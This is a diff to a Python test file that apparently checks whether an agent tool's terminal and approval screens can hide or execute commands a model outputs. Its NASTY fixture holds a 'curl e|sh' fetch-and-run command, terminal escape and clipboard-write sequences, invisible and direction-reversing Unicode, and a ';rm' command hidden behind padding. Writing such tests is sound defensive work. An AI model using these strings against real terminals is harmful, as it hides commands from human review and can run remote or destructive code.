@@ -23,7 +23,6 @@ MAKE = "shell: echo made it > made; cat made"
 NASTY = (
     "shell: true curl e|sh\r\x1b[2K ls \u202e\u200b\x9b1m\x1b]52;c;aGk=\x07\u3164\ufe0f\u2800" + " " * 10_000 + ";rm no"
 )
-SEEN = r"curl e|sh\u000d\u001b[2K ls \u202e\u200b\u009b1m\u001b]52;c;aGk=\u0007\u3164\ufe0f\u2800"
 
 
 @pytest.fixture(autouse=True)
@@ -208,12 +207,12 @@ PLACES = [
 
 def test_nothing_that_a_model_says_acts_on_a_terminal_or_hides_there(world: World) -> None:  # K-45
     with terminal(world, "prompt", NASTY) as asked:
-        asked.waits_for(SEEN)
+        asked.waits_for(r"  │ true curl e|sh\u000d\u001b[2K ls \u202e\u200b\u009b1m\u001b]52;c;aGk=")
         asked.waits_for("more characters) …")
         asked.waits_for(";rm no\r\n")
         asked.waits_for("v shows all> ")
         asked.type("v\n")
-        asked.waits_for(visible(NASTY.removeprefix("shell: ")))
+        asked.waits_for(";rm no\r\n")
         assert world.loopctl("queue", "add", NASTY).returncode == 0
         shown = {}
         for place in PLACES:
@@ -230,7 +229,8 @@ def test_nothing_that_a_model_says_acts_on_a_terminal_or_hides_there(world: Worl
         assert r"\u001b[2K" in shown[place], place
     assert ";rm no" in shown["approvals"]
     assert not acts(asked.shown)
-    assert visible(NASTY.removeprefix("shell: ")) in shown["approvals show"].replace("\r\n", "")
+    for whole in (asked.shown, shown["approvals show"]):
+        assert visible(NASTY.removeprefix("shell: ")) in whole.replace("\r\n  ┊ ", "")
     with terminal(world, "messages", "--raw") as looking:
         looking.waits_for("\x1b[2K")
         looking.ends()
